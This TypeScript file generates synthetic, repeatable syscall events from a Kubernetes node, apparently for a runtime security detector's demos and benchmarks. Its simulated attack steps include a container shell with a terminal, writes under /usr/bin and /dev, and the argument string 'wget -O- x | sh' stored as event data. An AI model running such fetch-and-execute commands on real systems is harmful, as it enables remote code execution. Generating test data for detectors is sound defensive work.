import type { ContainerInfo, SyscallEvent } from '../schemas/types.js'
import type { EventSource, SourceStats } from './event-source.js'

export interface GeneratorOptions {
  /** Events to generate; the source ends after them. */
  count: number
  hostname: string
  /** Seed of the pseudo-random sequence, so two runs generate the same events. */
  seed?: number
  /** Nanoseconds since the epoch of the first event. */
  startNs?: bigint
  /** Share of events, from 0 to 1, that are attack steps the default rules detect. */
  suspiciousRatio?: number
}

interface ProcessTemplate {
  name: string
  exepath: string
  args: string[]
  parent: string
  container: boolean
  uid: number
}

/** Ordinary processes of a Kubernetes node running a web application. */
const PROCESSES: ProcessTemplate[] = [
  {
    name: 'nginx',
    exepath: '/usr/sbin/nginx',
    args: ['-g', 'daemon off;'],
    parent: 'containerd-shim',
    container: true,
    uid: 101,
  },
  {
    name: 'python3',
    exepath: '/usr/bin/python3.11',
    args: ['-m', 'gunicorn', 'app:server'],
    parent: 'containerd-shim',
    container: true,
    uid: 1000,
  },
  {
    name: 'java',
    exepath: '/opt/java/openjdk/bin/java',
    args: ['-jar', '/app/service.jar'],
    parent: 'containerd-shim',
    container: true,
    uid: 1000,
  },
  {
    name: 'node',
    exepath: '/usr/local/bin/node',
    args: ['server.js'],
    parent: 'containerd-shim',
    container: true,
    uid: 1000,
  },
  {
    name: 'kubelet',
    exepath: '/usr/bin/kubelet',
    args: ['--config=/var/lib/kubelet/config.yaml'],
    parent: 'systemd',
    container: false,
    uid: 0,
  },
  {
    name: 'containerd',
    exepath: '/usr/bin/containerd',
    args: [],
    parent: 'systemd',
    container: false,
    uid: 0,
  },
  {
    name: 'sshd',
    exepath: '/usr/sbin/sshd',
    args: ['-D'],
    parent: 'systemd',
    container: false,
    uid: 0,
  },
  {
    name: 'cron',
    exepath: '/usr/sbin/cron',
    args: ['-f'],
    parent: 'systemd',
    container: false,
    uid: 0,
  },
]

const READ_PATHS = [
  '/etc/ld.so.cache',
  '/usr/lib/x86_64-linux-gnu/libc.so.6',
  '/proc/self/stat',
  '/etc/hosts',
  '/etc/resolv.conf',
  '/app/config.json',
  '/usr/share/zoneinfo/UTC',
  '/sys/fs/cgroup/cpu.max',
]
const WRITE_PATHS = [
  '/var/log/app/access.log',
  '/tmp/cache-0001',
  '/var/lib/app/state.db',
  '/run/app.pid',
]
const COMMANDS = [
  { name: 'ls', exepath: '/usr/bin/ls', args: ['-la', '/var/log'] },
  { name: 'grep', exepath: '/usr/bin/grep', args: ['-r', 'error', '/var/log/app'] },
  { name: 'sh', exepath: '/usr/bin/dash', args: ['-c', 'date +%s'] },
  { name: 'curl', exepath: '/usr/bin/curl', args: ['-s', 'http://127.0.0.1:8080/healthz'] },
]

const OPEN_FLAGS_READ = { text: 'O_RDONLY|O_CLOEXEC', raw: '524288' }
const OPEN_FLAGS_WRITE = { text: 'O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC', raw: '525377' }
const OPEN_FLAGS_CREATE = { text: 'O_WRONLY|O_CREAT|O_TRUNC', raw: '577' }
const NANOS_BETWEEN_EVENTS = 20_000n

/**
 * Generates a realistic, repeatable mix of syscall events for demos, benchmarks and load tests. The
 * mix is about 70 % file opens, 15 % closes, 8 % connects and 7 % execs. A configurable share are
 * attack steps: a shell with a terminal in a container, a write below /usr/bin, a file created
 * below /dev.
 */
export class GeneratorSource implements EventSource {
  readonly name: string
  private readonly options: Required<GeneratorOptions>
  private produced = 0
  private closed = false

  constructor(options: GeneratorOptions) {
    this.options = { seed: 1, startNs: 1796378400000000000n, suspiciousRatio: 0.001, ...options }
    this.name = `generator:${options.count}`
  }

  async *events(signal: AbortSignal): AsyncIterable<SyscallEvent> {
    const random = seededRandom(this.options.seed)
    for (let index = 0; index < this.options.count; index++) {
      if (signal.aborted || this.closed) return
      this.produced++
      yield this.makeEvent(index, random)
    }
  }

  /** Builds event `index` with no I/O, for benchmarks that must measure only what follows. */
  makeEvent(index: number, random: () => number): SyscallEvent {
    const tsNs = this.options.startNs + BigInt(index) * NANOS_BETWEEN_EVENTS
    if (random() < this.options.suspiciousRatio) return this.attackStep(index, tsNs, random)
    const template = PROCESSES[Math.floor(random() * PROCESSES.length)]
    const pid = 2000 + PROCESSES.indexOf(template) * 10
    const roll = random()
    if (roll < 0.55)
      return this.open(
        index,
        tsNs,
        template,
        pid,
        READ_PATHS[Math.floor(random() * READ_PATHS.length)],
        OPEN_FLAGS_READ,
      )
    if (roll < 0.7)
      return this.open(
        index,
        tsNs,
        template,
        pid,
        WRITE_PATHS[Math.floor(random() * WRITE_PATHS.length)],
        OPEN_FLAGS_WRITE,
      )
    if (roll < 0.85) return this.closeEvent(index, tsNs, template, pid)
    if (roll < 0.93) return this.connect(index, tsNs, template, pid, random)
    return this.exec(index, tsNs, template, pid, random)
  }

  stats(): SourceStats {
    return { eventsRead: this.produced, skipped: {}, dropped: {} }
  }

  async close(): Promise<void> {
    this.closed = true
  }

  private base(
    index: number,
    tsNs: bigint,
    template: ProcessTemplate,
    pid: number,
    type: string,
  ): SyscallEvent {
    return {
      ts_ns: tsNs,
      hostname: this.options.hostname,
      num: index + 1,
      type,
      source: 'syscall',
      cpu: index % 2,
      res: 0,
      args: {},
      raw_args: {},
      proc: {
        pid,
        tid: pid,
        vpid: template.container ? 1 : pid,
        vtid: template.container ? 1 : pid,
        ppid: template.container ? 900 : 1,
        name: template.name,
        exe: template.exepath,
        exepath: template.exepath,
        args: template.args,
        cwd: template.container ? '/app/' : '/',
        tty: 0,
        sid: pid,
        sname: template.name,
        vpgid: pid,
        loginshell_id: null,
        env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', 'HOME=/'],
        is_exe_writable: false,
        is_exe_upper_layer: false,
        is_exe_from_memfd: false,
        exe_ino: 131000 + pid,
        start_ts_ns: this.options.startNs - 60_000_000_000n,
        cap_permitted: null,
        cap_effective: null,
        cap_inheritable: null,
      },
      ancestors: template.container
        ? [
            {
              pid: 900,
              name: 'containerd-shim',
              exe: '/usr/bin/containerd-shim-runc-v2',
              exepath: '/usr/bin/containerd-shim-runc-v2',
              args: ['-namespace', 'k8s.io'],
            },
            {
              pid: 1,
              name: 'systemd',
              exe: '/sbin/init',
              exepath: '/usr/lib/systemd/systemd',
              args: [],
            },
          ]
        : [
            {
              pid: 1,
              name: 'systemd',
              exe: '/sbin/init',
              exepath: '/usr/lib/systemd/systemd',
              args: [],
            },
          ],
      user: {
        uid: template.uid,
        name: template.uid === 0 ? 'root' : 'app',
        homedir: template.uid === 0 ? '/root' : '/home/app',
        shell: '/bin/sh',
        loginuid: -1,
        loginname: null,
        gid: template.uid,
        group_name: template.uid === 0 ? 'root' : 'app',
      },
      fd: null,
      container: template.container ? containerOf(template.name) : null,
    }
  }

  private open(
    index: number,
    tsNs: bigint,
    template: ProcessTemplate,
    pid: number,
    path: string,
    flags: { text: string; raw: string },
  ): SyscallEvent {
    const event = this.base(index, tsNs, template, pid, 'openat')
    const fd = 3 + (index % 20)
    event.res = fd
    event.args = {
      fd: `${fd}(<f>${path})`,
      dirfd: '-100(AT_FDCWD)',
      name: path,
      flags: flags.text,
      mode: '0644',
      dev: '803',
      ino: String(200000 + (index % 1000)),
    }
    event.raw_args = {
      fd: String(fd),
      dirfd: '-100',
      name: path,
      flags: flags.raw,
      mode: '420',
      dev: '2051',
      ino: String(200000 + (index % 1000)),
    }
    event.fd = fileDescriptor(fd, path)
    return event
  }

  private closeEvent(
    index: number,
    tsNs: bigint,
    template: ProcessTemplate,
    pid: number,
  ): SyscallEvent {
    const event = this.base(index, tsNs, template, pid, 'close')
    const fd = 3 + (index % 20)
    const path = READ_PATHS[index % READ_PATHS.length]
    event.args = { fd: `${fd}(<f>${path})`, res: '0' }
    event.raw_args = { fd: String(fd), res: '0' }
    event.fd = fileDescriptor(fd, path)
    return event
  }

  private connect(
    index: number,
    tsNs: bigint,
    template: ProcessTemplate,
    pid: number,
    random: () => number,
  ): SyscallEvent {
    const event = this.base(index, tsNs, template, pid, 'connect')
    const fd = 10 + (index % 10)
    const port = 40000 + Math.floor(random() * 20000)
    const server = `10.96.${Math.floor(random() * 4)}.${10 + Math.floor(random() * 50)}`
    const tuple = `10.244.1.7:${port}->${server}:443`
    event.args = { fd: `${fd}(<4t>${tuple})`, addr: `${server}:443`, res: '0', tuple }
    event.raw_args = { fd: String(fd), addr: `${server}:443`, res: '0', tuple }
    event.fd = {
      num: fd,
      type: 'ipv4',
      typechar: '4',
      name: tuple,
      ino: null,
      dev: null,
      l4proto: 'tcp',
      sockfamily: 'ip',
      cip: '10.244.1.7',
      cport: port,
      sip: server,
      sport: 443,
      is_server: false,
    }
    return event
  }

  private exec(
    index: number,
    tsNs: bigint,
    template: ProcessTemplate,
    pid: number,
    random: () => number,
  ): SyscallEvent {
    const command = COMMANDS[Math.floor(random() * COMMANDS.length)]
    const event = this.base(
      index,
      tsNs,
      { ...template, ...command },
      pid + 5000 + (index % 100),
      'execve',
    )
    event.ancestors = [
      {
        pid,
        name: template.name,
        exe: template.exepath,
        exepath: template.exepath,
        args: template.args,
      },
      ...event.ancestors,
    ]
    event.proc.ppid = pid
    event.args = {
      res: '0',
      exe: command.exepath,
      args: command.args.join(' '),
      filename: command.exepath,
    }
    event.raw_args = {
      res: '0',
      exe: command.exepath,
      args: command.args.join('\u0000'),
      filename: command.exepath,
    }
    return event
  }

  private attackStep(index: number, tsNs: bigint, random: () => number): SyscallEvent {
    const step = Math.floor(random() * 3)
    const web = PROCESSES[0]
    if (step === 0) {
      const event = this.exec(index, tsNs, web, 2000, () => 0)
      event.proc = {
        ...event.proc,
        name: 'bash',
        exe: 'bash',
        exepath: '/usr/bin/bash',
        args: ['-i'],
        tty: 34816,
      }
      event.ancestors = [
        { pid: 900, name: 'runc', exe: 'runc', exepath: '/usr/bin/runc', args: ['exec', '-t'] },
        ...event.ancestors.slice(1),
      ]
      event.args = { res: '0', exe: 'bash', args: '-i', filename: '/usr/bin/bash' }
      event.raw_args = { res: '0', exe: 'bash', args: '-i', filename: '/usr/bin/bash' }
      return event
    }
    const path = step === 1 ? '/usr/bin/kubectl' : '/dev/.hidden'
    const event = this.open(
      index,
      tsNs,
      { ...web, name: 'sh', exepath: '/usr/bin/dash', args: ['-c', 'wget -O- x | sh'] },
      2090,
      path,
      OPEN_FLAGS_CREATE,
    )
    if (step === 2) event.container = null
    return event
  }
}

function containerOf(name: string): ContainerInfo {
  const id = `${(name + '000000000000').slice(0, 4)}a1b2c3d4`
    .replace(/[^0-9a-f]/g, 'e')
    .slice(0, 12)
  return {
    id,
    full_id: id.padEnd(64, '0'),
    name: `k8s_${name}_${name}-7d9c_default`,
    type: 'containerd',
    image: `registry.example/${name}:1.0`,
    image_id: null,
    image_repository: `registry.example/${name}`,
    image_tag: '1.0',
    image_digest: null,
    privileged: false,
    ip: '10.244.1.7',
    labels: { 'io.kubernetes.pod.name': `${name}-7d9c`, 'io.kubernetes.pod.namespace': 'default' },
    mounts: [],
  }
}

function fileDescriptor(fd: number, path: string): NonNullable<SyscallEvent['fd']> {
  return {
    num: fd,
    type: 'file',
    typechar: 'f',
    name: path,
    ino: null,
    dev: null,
    l4proto: null,
    sockfamily: null,
    cip: null,
    cport: null,
    sip: null,
    sport: null,
    is_server: null,
  }
}

/** Mulberry32: a small, fast generator with a 32-bit state, plenty for test and benchmark data. */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = state
    mixed = Math.imul(mixed ^ (mixed >>> 15), mixed | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296
  }
}
